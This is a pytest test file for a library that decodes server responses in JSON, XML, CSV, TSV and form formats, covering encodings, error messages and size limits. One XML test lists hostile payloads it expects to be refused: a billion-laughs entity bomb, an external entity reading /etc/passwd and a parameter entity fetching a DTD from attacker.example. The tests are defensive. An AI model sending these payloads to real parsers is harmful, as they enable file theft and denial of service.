"""What servers answer, and what is made of it."""

import random
from contextlib import suppress
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mageferry.http.subscriber import (
    AnswerFormat,
    EntityError,
    Format,
    IncomingError,
    Limits,
    Markup,
    Table,
    TooLarge,
    UnreadableAnswer,
    WrongSettings,
)
from mageferry.http.subscriber.formats import Document, decode

XML, CSV, FORM = Format.XML, Format.CSV, Format.FORM
XSI = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'


def read(content: bytes, kind: Format = Format.JSON, content_type: str = "", **settings: Any) -> Any:
    decoded = decode(content, content_type, AnswerFormat(kind, **settings))
    return decoded.data if isinstance(decoded, Document) else list(decoded.rows)


def test_json_keeps_long_numbers_and_does_without_a_byte_order_mark() -> None:
    assert read(b'\xef\xbb\xbf{"id": 12345678901234567890123, "price": 19.99}') == {
        "id": 12345678901234567890123,
        "price": 19.99,
    }
    assert read('["Größe"]'.encode("latin-1"), content_type="application/json; charset=iso-8859-1") == [
        "Größe"
    ]


@pytest.mark.parametrize(
    ("content", "message", "remedy"),
    [
        (b'{"a":\n1,}', "Line 2: The answer is no JSON", "Look at"),
        (b"<html>Maintenance</html>", "Line 1: The answer is no JSON", "looks like HTML"),
        (b"", "no JSON", "is empty"),
        (b"[12345678901234567890, NaN]", "NaN is no JSON number", ""),
        (b'"\xff"', "A byte is no utf-8 \\(position 1\\)", "Name the encoding"),
    ],
)
def test_what_is_no_json_is_told_with_its_line(content: bytes, message: str, remedy: str) -> None:
    with pytest.raises(UnreadableAnswer, match=message) as caught:
        read(content)
    assert remedy in caught.value.remedy


@pytest.mark.parametrize("depth", [65, 2_000, 200_000])
@pytest.mark.parametrize("start", [b"", b"[1234567890123456789012,"], ids=["short", "long numbers"])
def test_deep_json_is_refused(depth: int, start: bytes) -> None:
    with pytest.raises(TooLarge, match="deeper than 64"):
        read(start + b"[" * depth + b"]" * depth + (b"]" if start else b""))


def test_xml_becomes_objects() -> None:
    text = f"""<?xml version="1.0"?>
        <feed xmlns="urn:feed" xmlns:p="urn:price" {XSI} version="2">
          <order id="1"><sku> A </sku><sku>B</sku><p:price currency="EUR">5.00</p:price></order>
          <note xsi:nil="true"/><empty/>
        </feed>"""
    assert read(text.encode(), XML) == {
        "feed": {
            "@version": "2",
            "order": {"@id": "1", "sku": ["A", "B"], "price": {"@currency": "EUR", "#text": "5.00"}},
            "note": None,
            "empty": "",
        }
    }


def test_namespaces_can_be_kept_and_single_elements_be_lists() -> None:
    markup = Markup(namespaces={"o": "urn:orders"}, lists=("o:order",))
    text = b'<x:orders xmlns:x="urn:orders" xmlns:y="urn:y"><x:order><y:id>1</y:id></x:order></x:orders>'
    assert read(text, XML, markup=markup) == {"o:orders": {"o:order": [{"id": "1"}]}}


@pytest.mark.parametrize(
    ("content", "content_type"),
    [
        ('<?xml version="1.0" encoding="windows-1252"?><a>€</a>'.encode("cp1252"), ""),
        ("<a>€</a>".encode("cp1252"), "text/xml; charset=windows-1252"),
        ("\ufeff<a>€</a>".encode("utf-16-le"), "text/xml; charset=utf-8"),
    ],
)
def test_xml_in_other_encodings(content: bytes, content_type: str) -> None:
    assert read(content, XML, content_type) == {"a": "€"}


BILLION_LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY a "lol">'
    + b"".join(
        b'<!ENTITY %c "%s">' % (98 + n, b"&" + bytes([97 + n]) + b";" + (b"&" + bytes([97 + n]) + b";") * 9)
        for n in range(9)
    )
    + b"]><lolz>&j;</lolz>"
)


@pytest.mark.parametrize(
    "content",
    [
        BILLION_LAUGHS,
        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><a>1</a>',
        b'<!DOCTYPE a [<!ATTLIST a b CDATA "' + b"x" * 1000 + b'">]><a/>',
        b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a>&x;</a>',
    ],
    ids=["billion laughs", "file", "parameter entity", "attribute defaults", "external"],
)
def test_xml_that_declares_something_is_refused(content: bytes) -> None:
    with pytest.raises(UnreadableAnswer, match="declare"):
        read(content, XML)


def test_an_external_document_type_is_not_loaded() -> None:
    assert read(b'<!DOCTYPE a SYSTEM "http://127.0.0.1:1/x.dtd"><a>1</a>', XML) == {"a": "1"}


def test_xml_has_limits() -> None:
    with pytest.raises(TooLarge, match="nested deeper than 64"):
        read(b"<a>" * 100_000, XML)
    with pytest.raises(TooLarge, match="more than 10 XML elements") as caught:
        read(b"<a>\n" + b"<b/>" * 20 + b"</a>", XML, limits=Limits(elements=10))
    assert caught.value.place.line == 2


def test_broken_xml_is_told_with_its_line() -> None:
    with pytest.raises(UnreadableAnswer, match=r"Line 2: .*mismatched tag"):
        read(b"<a>\n</b>", XML)


def test_tables_are_read_with_and_without_header() -> None:
    assert read(b'sku,name\nA,Lamp\nB,"Chair, red"\n\nC,"6"" nail\nlong"\n', CSV) == [
        {"sku": "A", "name": "Lamp"},
        {"sku": "B", "name": "Chair, red"},
        {"sku": "C", "name": '6" nail\nlong'},
    ]
    assert read(b"A;1\r\nB;2", CSV, table=Table(delimiter=";", header=False, columns=("sku", "qty"))) == [
        {"sku": "A", "qty": "1"},
        {"sku": "B", "qty": "2"},
    ]
    assert read(b"A\t1", Format.TSV, table=Table(header=False)) == [{"column_1": "A", "column_2": "1"}]
    assert read(b"a'b|\"c", CSV, table=Table(delimiter="|", quote="", header=False)) == [
        {"column_1": "a'b", "column_2": '"c'}
    ]


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-8"])
def test_the_mark_of_an_encoding_is_no_part_of_the_first_column(encoding: str) -> None:
    assert read("größe\n1".encode(encoding), CSV) == [{"größe": "1"}]


def test_another_encoding_is_named() -> None:
    content = "größe\n1\n2".encode("cp1252")
    assert read(content, CSV, table=Table(encoding="cp1252")) == [{"größe": "1"}, {"größe": "2"}]
    with pytest.raises(UnreadableAnswer, match="Line 1: A byte is no utf-8"):
        read(content, CSV)


def test_half_of_a_character_does_not_block_what_stands_beside_it() -> None:
    for number in ("7", "9007199254740993123"):
        text = f'[{{"id": {number}, "note": "a\\ud800b", "smile": "\\ud83d\\ude00"}}]'
        assert read(text.encode()) == [{"id": int(number), "note": "a\ufffdb", "smile": "\U0001f600"}]


@pytest.mark.parametrize("charset", ["zlib", "idna", "unicode_escape", "nonsense", "a\0b"])
def test_what_is_no_encoding_of_characters_is_refused(charset: str) -> None:
    with pytest.raises(UnreadableAnswer, match="is not known"):
        read(b"a\n1", CSV, f"text/csv; charset={charset}")


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b'a,b\n1,2\n"3,4\n5,6\n', "Line 4: .*never closed; the record begins in line 3"),
        (b'a,b\n1,2\n"3"x,4\n', "Line 3: "),
        (b"a,b,a\n1,2,3", "Line 1: The header names the column 'a' twice"),
        (b'a,b\n1,"' + b"x" * 200_000, "Line 2: A field is longer"),
    ],
)
def test_wrong_quoting_is_told_with_its_line(content: bytes, message: str) -> None:
    with pytest.raises(UnreadableAnswer, match=message):
        read(content, CSV)


def test_a_row_of_another_length_fails_alone() -> None:
    first, second, third = read(b"a,b\n1,2\n3\n5,6", CSV)
    assert (first, third) == ({"a": "1", "b": "2"}, {"a": "5", "b": "6"})
    assert isinstance(second, EntityError)
    assert second.message == "Line 3: The row has 1 fields, the table 2 columns"


def test_tables_have_limits() -> None:
    with pytest.raises(TooLarge, match="more than 3 items"):
        read(b"a\n1\n2\n3\n4", CSV, limits=Limits(items=3))
    with pytest.raises(TooLarge, match="larger than 5 bytes"):
        read(b"a\n1\n2\n3", CSV, limits=Limits(body_bytes=5))


def test_forms_are_objects() -> None:
    assert read(b"id=1&name=L%C3%A4mp+2&tag=a&tag=b&sku[]=x&none=", FORM) == {
        "id": "1",
        "name": "Lämp 2",
        "tag": ["a", "b"],
        "sku": ["x"],
        "none": "",
    }
    with pytest.raises(UnreadableAnswer, match="no form"):
        read(b"hello", FORM)
    with pytest.raises(TooLarge, match="more than 2 fields"):
        read(b"a=1&b=2&c=3", FORM, limits=Limits(items=2))


@pytest.mark.parametrize(
    ("content_type", "content", "expected"),
    [
        ("application/vnd.api+json", b"1", 1),
        ("text/plain", b" [1]", [1]),
        ("application/atom+xml; charset=utf-8", b"<a/>", {"a": ""}),
        ("text/csv", b"a\n1", [{"a": "1"}]),
        ("text/tab-separated-values", b"a\tb\n1\t2", [{"a": "1", "b": "2"}]),
        ("application/x-www-form-urlencoded", b"a=1", {"a": "1"}),
    ],
)
def test_the_format_can_be_taken_from_the_content_type(
    content_type: str, content: bytes, expected: Any
) -> None:
    assert read(content, Format.AUTO, content_type) == expected


@pytest.mark.parametrize(("content_type", "message"), [("text/html", "'text/html'"), ("", "does not name")])
def test_a_content_type_that_is_not_known_is_told(content_type: str, message: str) -> None:
    with pytest.raises(UnreadableAnswer, match=message):
        read(b"hello", Format.AUTO, content_type)


@pytest.mark.parametrize(
    "settings",
    [{"delimiter": ""}, {"delimiter": ";;"}, {"quote": ","}, {"columns": ("a", "a")}],
)
def test_settings_of_tables_are_checked(settings: Any) -> None:
    with pytest.raises(WrongSettings, match="table"):
        Table(**settings)


@given(
    st.binary(max_size=200),
    st.sampled_from(list(Format)),
    st.sampled_from(
        ["", "text/csv; charset=utf-16", "text/xml; charset=nonsense", "application/json", "\n\r;"]
    ),
)
def test_whatever_comes_is_read_or_refused(content: bytes, kind: Format, content_type: str) -> None:
    with suppress(IncomingError):
        read(content, kind, content_type)


@given(st.integers(0, 2**32))
def test_damaged_answers_are_read_or_refused(seed: int) -> None:
    chance = random.Random(seed)
    kind, content = chance.choice(
        [
            (Format.JSON, b'{"items": [{"id": 123456789012345678901, "name": "L\\u00e4mp"}]}'),
            (XML, b'<a xmlns="u"><b c="1">x</b><b/></a>'),
            (CSV, b'a,b\r\n"1,1",2\r\n3,4\r\n'),
        ]
    )
    damaged = bytearray(content)
    for _ in range(chance.randint(1, 3)):
        damaged[chance.randrange(len(damaged))] = chance.choice(b'"<>&;,\\{}[]\x00\xff\xfe\n')
    with suppress(IncomingError):
        read(bytes(damaged), kind)
